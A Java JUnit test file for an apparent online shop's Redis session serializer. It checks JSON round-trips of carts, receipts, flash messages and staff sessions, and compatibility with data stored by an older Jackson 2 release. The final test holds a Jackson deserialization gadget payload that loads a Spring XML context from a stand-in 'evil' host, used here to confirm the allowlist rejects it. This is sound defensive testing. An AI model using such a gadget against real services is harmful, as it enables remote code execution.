package com.dhakacart.storefront.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import com.dhakacart.storefront.backoffice.StaffSession;
import com.dhakacart.storefront.cart.Cart;
import com.dhakacart.storefront.cart.CartLine;
import com.dhakacart.storefront.order.OrderReceipts;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.springframework.data.redis.serializer.RedisSerializer;
import org.springframework.web.servlet.FlashMap;

class SessionSerializationTest {

    private final RedisSerializer<Object> serializer = new SessionSerialization().springSessionDefaultRedisSerializer();

    @Test
    void everyKindOfSessionValueIncludingAStaffLogInComesBackEqualFromJson() {
        Cart cart = new Cart(List.of(new CartLine(7, "জামদানি শাড়ি", 2, new BigDecimal("12500.00"))));
        OrderReceipts receipts = OrderReceipts.NONE.with("DC7K3M9Q2XWAB4", "token-1", "checkout-1");
        Flash flash = new Flash("notice", "cart.added", List.of("Miniket Rice", 3, new BigDecimal("420.50")));
        StaffSession staff = new StaffSession("opaque-bearer-token", Instant.parse("2026-11-27T20:00:00Z"), 3,
                "handler@example.com", "Rahim", "order_handler", true);
        for (Object value : List.of(cart, receipts, flash, staff, 1_732_700_000_000L, 604800)) {
            byte[] bytes = serializer.serialize(value);
            // Plain JSON any JSON reader can parse (Java serialization would start with 0xACED).
            assertThatCode(() -> new tools.jackson.databind.ObjectMapper().readTree(bytes))
                    .as(new String(bytes, StandardCharsets.UTF_8)).doesNotThrowAnyException();
            assertThat(serializer.deserialize(bytes)).isEqualTo(value);
        }
        assertThat(((OrderReceipts) serializer.deserialize(serializer.serialize(receipts))).token("DC7K3M9Q2XWAB4"))
                .contains("token-1");
    }

    @Test
    void aCartStoredByTheJackson2ReleaseStillReadsAndIsWrittenTheSameWay() {
        // Exactly what the Spring Boot 3.5 / Jackson 2 release stored in Redis: carts in Redis survive the upgrade,
        // and a shopper served by both releases during a rolling deploy keeps one cart.
        String stored = "{\"@class\":\"com.dhakacart.storefront.cart.Cart\",\"lines\":[\"java.util.ImmutableCollections$List12\","
                + "[{\"@class\":\"com.dhakacart.storefront.cart.CartLine\",\"productId\":7,\"name\":\"জামদানি শাড়ি\","
                + "\"quantity\":2,\"unitPrice\":[\"java.math.BigDecimal\",12500.00]}]]}";
        Cart cart = new Cart(List.of(new CartLine(7, "জামদানি শাড়ি", 2, new BigDecimal("12500.00"))));
        assertThat(serializer.deserialize(stored.getBytes(StandardCharsets.UTF_8))).isEqualTo(cart);
        assertThat(new String(serializer.serialize(cart), StandardCharsets.UTF_8)).isEqualTo(stored);
        assertThat(new String(serializer.serialize(42L), StandardCharsets.UTF_8)).isEqualTo("[\"java.lang.Long\",42]");
        assertThat(serializer.deserialize("[\"java.lang.Long\",42]".getBytes(StandardCharsets.UTF_8))).isEqualTo(42L);
    }

    @Test
    void aRedirectsFlashMapSurvivesTheRoundTrip() {
        FlashMap flash = new FlashMap();
        flash.put("flash", new Flash("error", "cart.too-many", List.of(99)));
        Object back = serializer.deserialize(serializer.serialize(List.of(flash)));
        assertThat(back).asList().singleElement().isInstanceOf(FlashMap.class);
        assertThat(((FlashMap) ((List<?>) back).getFirst()).get("flash")).isEqualTo(flash.get("flash"));
    }

    @Test
    void aClassOutsideTheAllowlistOrJavaSerializedBytesReadAsNothing() {
        String gadget = "{\"@class\":\"org.springframework.context.support.FileSystemXmlApplicationContext\",\"configLocation\":\"http://evil/x.xml\"}";
        assertThat(serializer.deserialize(gadget.getBytes(StandardCharsets.UTF_8))).isNull();
        assertThat(serializer.deserialize(new byte[] {(byte) 0xac, (byte) 0xed, 0, 5, 't', 0, 1, 'x'})).isNull();
    }
}
